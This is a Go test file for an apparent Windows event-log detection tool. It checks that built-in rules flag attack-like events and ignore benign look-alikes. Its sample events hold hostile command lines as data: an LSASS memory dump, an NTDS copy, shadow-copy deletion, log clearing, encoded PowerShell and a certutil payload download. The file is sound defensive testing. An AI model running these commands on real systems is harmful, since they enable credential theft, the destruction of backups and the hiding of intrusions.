package pack

import (
	"testing"

	"github.com/assay-audit/assay/server/internal/rule"
)

func event(channel, provider string, id uint32, data ...string) *rule.FieldsEvent {
	e := &rule.FieldsEvent{ProviderName: provider, ChannelName: channel, ID: id}
	for i := 0; i+1 < len(data); i += 2 {
		e.Data = append(e.Data, rule.Field{Name: data[i], Value: data[i+1]})
	}
	return e
}

func sysmon(image, parent, command string) *rule.FieldsEvent {
	return event("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, "Image", image, "ParentImage", parent, "CommandLine", command, "User", `CORP\ann`)
}

func TestBuiltinRules(t *testing.T) {
	t.Parallel()
	sources, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	set, problems := rule.Compile(sources, rule.Config{})
	for _, p := range problems {
		t.Error(p)
	}
	for _, r := range set.Rules() {
		if r.ID == "" || r.Level == "" || len(r.Tags) == 0 || len(r.FalsePositives) == 0 || r.License != "Apache-2.0" {
			t.Errorf("%s lacks an id, a level, tags, known benign causes or its licence", r.Source)
		}
	}
	const security, system = "Security", "System"
	const defender, firewall = "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall"
	for name, c := range map[string]struct {
		hit, miss *rule.FieldsEvent
	}{
		"security_log_cleared":     {event(security, "Microsoft-Windows-Eventlog", 1102), event(security, "Microsoft-Windows-Eventlog", 1100)},
		"system_log_cleared":       {event(system, "Microsoft-Windows-Eventlog", 104), event(system, "Other", 104)},
		"audit_removed":            {event(security, "Microsoft-Windows-Security-Auditing", 4719, "AuditPolicyChanges", "%%8448"), event(security, "Microsoft-Windows-Security-Auditing", 4719, "AuditPolicyChanges", "%%8449, %%8451")},
		"defender_off":             {event(defender, "Microsoft-Windows-Windows Defender", 5001), event(defender, "Microsoft-Windows-Windows Defender", 5000)},
		"malware_found":            {event(defender, "Microsoft-Windows-Windows Defender", 1116), event(defender, "Microsoft-Windows-Windows Defender", 1117)},
		"firewall_off":             {event(firewall, "Microsoft-Windows-Windows Firewall With Advanced Security", 2003, "SettingType", "1", "SettingValueString", "No"), event(firewall, "Microsoft-Windows-Windows Firewall With Advanced Security", 2003, "SettingType", "1", "SettingValueString", "Yes")},
		"log_cleared_by_command":   {sysmon(`C:\Windows\System32\wevtutil.exe`, "", "wevtutil cl Security"), sysmon(`C:\Windows\System32\wevtutil.exe`, "", "wevtutil qe Security")},
		"lsass_dump":               {sysmon(`C:\Windows\System32\rundll32.exe`, "", `rundll32 C:\windows\system32\comsvcs.dll, MiniDump 640 C:\x.dmp full`), sysmon(`C:\Windows\System32\rundll32.exe`, "", "rundll32 shell32.dll")},
		"directory_copied":         {sysmon(`C:\Windows\System32\ntdsutil.exe`, "", `ntdsutil "ac i ntds" "ifm" "create full c:\x"`), sysmon(`C:\Windows\System32\ntdsutil.exe`, "", "ntdsutil files info")},
		"shadow_copies_deleted":    {sysmon(`C:\Windows\System32\vssadmin.exe`, "", "vssadmin DELETE shadows /all"), sysmon(`C:\Windows\System32\vssadmin.exe`, "", "vssadmin list shadows")},
		"encoded_powershell":       {sysmon(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"), sysmon(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "", "powershell -File C:\\Jobs\\report.ps1 -Encoding utf8")},
		"office_starts_shell":      {sysmon(`C:\Windows\System32\cmd.exe`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "cmd /c x"), sysmon(`C:\Windows\System32\cmd.exe`, `C:\Windows\explorer.exe`, "cmd")},
		"certutil_download":        {sysmon(`C:\Windows\System32\certutil.exe`, "", "certutil -urlcache -f http://x.example/a.exe a.exe"), sysmon(`C:\Windows\System32\certutil.exe`, "", "certutil -urlcache")},
		"service_from_user_folder": {event(system, "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `C:\Users\Public\x.exe`), event(system, "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `C:\Windows\System32\x.exe`)},
		"administrator_added":      {event(security, "Microsoft-Windows-Security-Auditing", 4732, "TargetSid", "S-1-5-32-544"), event(security, "Microsoft-Windows-Security-Auditing", 4732, "TargetSid", "S-1-5-32-545")},
		"failed_sign_in":           {event(security, "Microsoft-Windows-Security-Auditing", 4625), event(security, "Microsoft-Windows-Security-Auditing", 4624)},
	} {
		matched := func(e *rule.FieldsEvent) bool {
			for _, m := range set.Match(e, new(rule.Scratch)) {
				if m.Rule.Name == name {
					return true
				}
			}
			return false
		}
		if !matched(c.hit) {
			t.Errorf("%s does not match what it is for", name)
		}
		if matched(c.miss) {
			t.Errorf("%s matches a look-alike", name)
		}
	}
}
